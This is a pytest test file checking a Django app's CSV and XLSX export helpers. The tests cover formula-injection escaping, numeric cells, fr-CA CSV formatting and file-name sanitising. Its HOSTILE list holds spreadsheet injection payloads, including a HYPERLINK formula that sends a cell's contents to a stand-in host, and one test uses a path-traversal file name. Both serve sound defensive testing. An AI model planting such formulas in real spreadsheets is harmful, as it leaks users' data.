"""The one writer of CSV and XLSX exports: typed text never becomes a formula, numbers stay
numbers, and the file opens as Excel in fr-CA expects it."""

import csv
import io
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy, override
from openpyxl import load_workbook

from members.documents.exports import (
    attachment_header,
    csv_bytes,
    csv_response,
    safe_cell,
    xlsx_bytes,
    xlsx_response,
)

HOSTILE = ['=HYPERLINK("http://x.example/?q="&A1,"clic")', "+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(content: bytes):
    return load_workbook(io.BytesIO(content)).active


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_is_prefixed_with_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-2, 0, 3.5, Decimal("-1500.25"), None, "Table A", "a=b", "x-1"])
def test_numbers_and_harmless_text_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_a_lazy_translation_is_written_as_its_text():
    with override("en"):
        assert safe_cell(gettext_lazy("Status")) == "Status"


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_writes_hostile_text_as_text(text):
    rows = read_csv(csv_bytes(["Title"], [[text]]))
    assert rows[1] == ["'" + text]


def test_csv_writes_negative_numbers_as_numbers():
    rows = read_csv(csv_bytes(["Amount", "Delta"], [[Decimal("-1500.25"), -2]]))
    assert rows[1] == ["-1500.25", "-2"]


def test_csv_starts_with_a_byte_order_mark_and_separates_cells_with_semicolons():
    content = csv_bytes(["Région", "Montant"], [["Montréal", 12]])
    assert content.startswith("\ufeff".encode())
    assert content.decode("utf-8-sig").splitlines() == ["Région;Montant", "Montréal;12"]


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_writes_hostile_text_as_a_string_cell(text):
    cell = read_xlsx(xlsx_bytes(["Title"], [[text]], sheet_title="t")).cell(row=2, column=1)
    # An XML parser reads a carriage return back as a line feed.
    assert (cell.value, cell.data_type) == (("'" + text).replace("\r", "\n"), "s")


def test_xlsx_writes_numbers_as_number_cells():
    sheet = read_xlsx(xlsx_bytes(["a", "b", "c"], [[-2, Decimal("-1500.25"), 3.5]], sheet_title="t"))
    cells = [sheet.cell(row=2, column=column) for column in (1, 2, 3)]
    assert [(c.value, c.data_type) for c in cells] == [(-2, "n"), (-1500.25, "n"), (3.5, "n")]


def test_xlsx_drops_control_characters_xml_cannot_hold_then_checks_for_a_formula():
    sheet = read_xlsx(xlsx_bytes(["Title"], [["\x01=1+1\x0b"]], sheet_title="t"))
    assert sheet.cell(row=2, column=1).value == "'=1+1"


def test_xlsx_sheet_title_is_cut_to_what_excel_accepts():
    assert read_xlsx(xlsx_bytes(["a"], [], sheet_title="x" * 40)).title == "x" * 31


def test_xlsx_has_a_bold_frozen_header_and_the_columns_widths():
    sheet = read_xlsx(xlsx_bytes(["a", "b"], [[1, 2]], sheet_title="t", column_widths=(12, 30)))
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width) == (12, 30)


def test_the_file_name_is_reduced_to_a_plain_name():
    assert attachment_header('../plan "2025".csv') == 'attachment; filename="plan_2025.csv"'


def test_a_non_ascii_file_name_is_encoded():
    assert attachment_header("procès-verbal.csv") == "attachment; filename*=utf-8''proc%C3%A8s-verbal.csv"


def test_csv_response_is_an_attachment_of_type_csv():
    response = csv_response("financement-2025-01-31.csv", ["a"], [["=1"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="financement-2025-01-31.csv"'


def test_xlsx_response_is_an_attachment_of_type_xlsx():
    response = xlsx_response("financement-2025-01-31.xlsx", ["a"], [["=1"]], sheet_title="projets")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="financement-2025-01-31.xlsx"'
